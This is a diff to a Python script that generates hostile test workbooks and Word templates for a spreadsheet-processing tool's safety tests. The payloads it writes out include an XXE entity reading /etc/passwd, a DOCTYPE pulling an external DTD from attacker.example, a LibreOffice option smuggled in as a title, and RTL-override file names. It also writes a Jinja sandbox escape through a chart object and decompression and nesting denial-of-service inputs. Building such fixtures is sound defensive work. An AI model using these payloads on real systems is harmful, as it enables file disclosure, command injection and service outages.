@@ -6,7 +6,11 @@ Workbooks: XML external entities and the billion laughs (in a sheet, in workbook
 styles.xml), zip bombs (a declared size of 3 GiB; a member that inflates far beyond what
 its header declares), a value at XFD1048576 (also as 16,384 cells without references), a lying ``<dimension>``, a far row, an .xlsm
 whose VBA project would run a shell command, 设置 entries that point a template outside
-the folder, unit names that are paths. Templates: an external picture, a DOCTYPE.
+the folder, unit names that are paths, unit names with control characters; data that becomes
+output file names (a 考核名称 that is a LibreOffice option, unit names that collide, names too long
+for a file system). Templates: an external picture, a DOCTYPE, and the shapes of
+tests/hostile_docx.py (outside links in every spelling, linked pictures, fetching field codes,
+altChunk…), a chart's owner, deep nesting, integer squaring.
 ``--big DIR`` also writes a bomb that really inflates to 5 GiB (5 MB; not committed).
 """
 
@@ -14,6 +18,7 @@ from __future__ import annotations
 
 import argparse
 import io
+import re
 import struct
 import sys
 import zipfile
@@ -149,6 +154,41 @@ def _append_member(path: Path, parts: dict[str, bytes], member: str, comp: bytes
     return path
 
 
+# --- output area: data that becomes file names ------------------------------------------------
+#: A 考核名称 that LibreOffice would read as an option if the bulletin's name were passed bare.
+OPTION_TITLE = "--accept=socket,host=0,port=2002;urp;"
+#: Unit codes whose letter names sanitise alike (``:`` and ``/`` become ``_``; ``a_1`` differs only
+#: in case), names that are error values or hide bidi and zero-width characters.
+COLLIDING_UNITS = [
+    ["A:1", "甲单位", "区"],
+    ["A1", "甲单位", "区"],
+    ["A_1", "甲单位", "区"],
+    ["a_1", "甲单位", "区"],
+    ["A/1", "甲单位", "区"],
+    ["U6", "#N/A", "区"],
+    ["U7", "乙\u202e\u200bxcod.exe", "区"],
+]
+#: Names of 256+ characters and of 80+ Chinese characters gave "File name too long".
+LONG_TITLE = "很长的考核名称" * 40
+LONG_UNITS = [["L1", "x" * 300, "区"], ["L2", "单" * 90, "区"], ["L3", "单" * 90 + "乙", "区"]]
+
+
+def _titled(title: str, units: list[list[object]] | None = None) -> dict[str, bytes]:
+    sheets = valid_sheets(units)
+    sheets[0] = Sheet("设置", [["项目", "值"], ["考核名称", title], ["考核年度", 2025]])
+    return xlsx_parts(sheets)
+
+
+def output_name_workbooks(out: Path) -> list[Path]:
+    """The workbooks of the output area: a title that is an option, colliding unit names, long names."""
+    out.mkdir(parents=True, exist_ok=True)
+    return [
+        write_parts(out / "title_option.xlsx", _titled(OPTION_TITLE)),
+        write_parts(out / "unit_names_collide.xlsx", _titled("2025年度考核", COLLIDING_UNITS)),
+        write_parts(out / "names_long.xlsx", _titled(LONG_TITLE, LONG_UNITS)),
+    ]
+
+
 def build(out: Path) -> list[Path]:
     out.mkdir(parents=True, exist_ok=True)
     written: list[Path] = []
@@ -247,6 +287,155 @@ def build(out: Path) -> list[Path]:
     head, sep, rest = doc.partition(b"?>")
     tparts_xxe["word/document.xml"] = head + sep + f"<!DOCTYPE w:document [{xxe}]>".encode() + rest
     save("template_xxe.docx", tparts_xxe)
+    written.extend(build_package_safety(out))
+    written += build_template_shapes(out)
+    written += output_name_workbooks(out)
+    return written
+
+
+# --- package safety: far cells written otherwise, date cells, encodings, long strings ----------------
+
+
+def _data_sheet_with(cells: bytes) -> dict[str, bytes]:
+    """The valid workbook with ``cells`` (raw XML) added as a last row of 数据."""
+    parts = xlsx_parts(valid_sheets())
+    parts["xl/worksheets/sheet4.xml"] = parts["xl/worksheets/sheet4.xml"].replace(
+        b"</sheetData>", cells + b"</sheetData>"
+    )
+    return parts
+
+
+def _requoted_workbook(parts: dict[str, bytes]) -> dict[str, bytes]:
+    """workbook.xml and its relationships in single quotes with spaces around ``=``, as XML allows."""
+    parts = dict(parts)
+    for name in ("xl/workbook.xml", "xl/_rels/workbook.xml.rels"):
+        text = parts[name].decode()
+        head, sep, body = text.partition("?>")
+        parts[name] = (head + sep + re.sub(r'(\s[\w:]+)="([^"]*)"', r"\1 = '\2'", body)).encode()
+    return parts
+
+
+def package_safety_parts() -> dict[str, dict[str, bytes] | bytes]:
+    """Name -> parts (or whole file bytes) of each hostile package of this block."""
+    out: dict[str, dict[str, bytes] | bytes] = {}
+    out["far_cell_lowercase.xlsx"] = _data_sheet_with(b'<row r="1048576"><c r="xfd1048576"><v>1</v></c></row>')
+    out["far_cell_leading_zeros.xlsx"] = _data_sheet_with(b'<row r="1048576"><c r="XFD0001048576"><v>1</v></c></row>')
+    out["far_row_8_digits.xlsx"] = _data_sheet_with(b'<row r="10000000"><c r="A10000000"><v>1</v></c></row>')
+    out["far_cell_single_quotes.xlsx"] = _data_sheet_with(b"<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>")
+    out["far_cell_spaced_eq.xlsx"] = _data_sheet_with(b'<row r = "1048576"><c r = "XFD1048576"><v>1</v></c></row>')
+    out["far_cell_quoted_rels.xlsx"] = _requoted_workbook(
+        _data_sheet_with(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
+    )
+    unmapped = xlsx_parts(valid_sheets())
+    unmapped["xl/worksheets/sheet9.xml"] = unmapped["xl/worksheets/sheet4.xml"].replace(
+        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
+    )
+    out["far_cell_unmapped_part.xlsx"] = unmapped
+    # Style 1 is numFmtId 14 (a date): python-calamine panics turning -1e20 into a date.
+    out["date_cell_minus_1e20.xlsx"] = _data_sheet_with(b'<row r="4"><c r="B4" s="1"><v>-1E+20</v></c></row>')
+    base = xlsx_parts(valid_sheets())
+    out["doctype_split.xlsx"] = {**base, "xl/worksheets/sheet4.xml": _split_doctype(base["xl/worksheets/sheet4.xml"])}
+    utf16 = dict(base)
+    utf16["xl/worksheets/sheet4.xml"] = (
+        _sheet_with_doctype('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;")
+        .decode()
+        .replace('encoding="UTF-8"', 'encoding="UTF-16"')
+        .encode("utf-16")
+    )
+    out["utf16_sheet.xlsx"] = utf16
+    # One shared string of 8 MB (the attack used 900 MB; compressed, either is a few kilobytes).
+    sst = dict(base)
+    sst["xl/sharedStrings.xml"] = (
+        f'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>'.encode()
+        + b"A" * (8 << 20)
+        + b"</t></si></sst>"
+    )
+    sst["xl/worksheets/sheet4.xml"] = sst["xl/worksheets/sheet4.xml"].replace(
+        b"</sheetData>", b'<row r="4"><c r="B4" t="s"><v>0</v></c></row></sheetData>'
+    )
+    sst["[Content_Types].xml"] = sst["[Content_Types].xml"].replace(
+        b"</Types>",
+        b'<Override PartName="/xl/sharedStrings.xml" '
+        b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
+    )
+    sst["xl/_rels/workbook.xml.rels"] = sst["xl/_rels/workbook.xml.rels"].replace(
+        b"</Relationships>",
+        b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'sharedStrings" Target="sharedStrings.xml"/></Relationships>',
+    )
+    out["long_shared_string.xlsx"] = sst
+    return out
+
+
+def _split_doctype(xml: bytes) -> bytes:
+    """``xml`` with a DOCTYPE split across the boundary of the second and third 1 MB pieces inflated,
+    after a megabyte without ">" (the first piece ends with the ">" of a comment)."""
+    mb = 1 << 20
+    head = b'<?xml version="1.0" encoding="UTF-8"?>\n<!--'
+    head += b" " * (mb - len(head) - 3) + b"-->"
+    root = xml.partition(b"?>")[2].lstrip()
+    name = root[1 : root.find(b" ")]
+    doctype = b"<!DOCTYPE " + name + b' SYSTEM "http://attacker.example/evil.dtd">'
+    return head + b" " * (mb - 4) + doctype + root
+
+
+def build_package_safety(out: Path) -> list[Path]:
+    written = []
+    template = (ROOT / "templates" / "bulletin.docx").read_bytes()
+    with zipfile.ZipFile(io.BytesIO(template)) as z:
+        tparts = {i.filename: z.read(i) for i in z.infolist()}
+    tparts["word/document.xml"] = _split_doctype(tparts["word/document.xml"])
+    written.append(write_parts(out / "template_doctype_split.docx", tparts))
+    for name, parts in package_safety_parts().items():
+        if isinstance(parts, bytes):
+            (out / name).write_bytes(parts)
+            written.append(out / name)
+        else:
+            written.append(write_parts(out / name, parts))
+    return written
+
+
+# --- Templates: sandbox, links to outside files, nesting, integers, control characters (area: templates) ---
+
+
+def _jinja_template(base: str, payload: str) -> dict[str, bytes]:
+    from xml.sax.saxutils import escape
+
+    from hostile_docx import NS, base_parts, in_body
+
+    return in_body(base_parts(base), f"<w:p {NS}><w:r><w:t>{escape(payload)}</w:t></w:r></w:p>")
+
+
+def build_template_shapes(out: Path) -> list[Path]:
+    """Templates that link to outside files (every spelling, tests/hostile_docx.py), that reach an
+    object of the program through the letter's chart, nest too deep, square a number until it
+    cannot be computed; a workbook whose unit names hold control characters."""
+    from hostile_docx import RENDERED_SHAPES, SHAPES, base_parts
+
+    out.mkdir(parents=True, exist_ok=True)
+    written = []
+    for name, (shape, _) in {**SHAPES, **RENDERED_SHAPES}.items():
+        written.append(write_parts(out / name, shape(base_parts("bulletin.docx"))))
+    jinja = {
+        "template_picture_owner.docx": (
+            "letter.docx",
+            "{{ chart.owner.render_to({}, '/tmp/perf_excel_template_escape/x.docx') }}",
+        ),
+        "template_deep_nesting.docx": ("bulletin.docx", "{% if 1 %}" * 3000 + "x" + "{% endif %}" * 3000),
+        "template_int_squaring.docx": (
+            "bulletin.docx",
+            "{% set ns = namespace(x=3) %}{% for i in range(60) %}{% set ns.x = ns.x * ns.x %}{% endfor %}{{ ns.x }}",
+        ),
+    }
+    for name, (base, payload) in jinja.items():
+        written.append(write_parts(out / name, _jinja_template(base, payload)))
+    units = [
+        ["U1", "甲\x01单位", "区"],
+        ["U2", "乙\x0b单位", "区"],
+        ["U3", "丙\x00单位", "区"],
+        ["U4", "丁\x07\x0c单位", "区"],
+    ]
+    written.append(write_parts(out / "unit_names_control.xlsx", xlsx_parts(valid_sheets(units=units))))
     return written
 
 
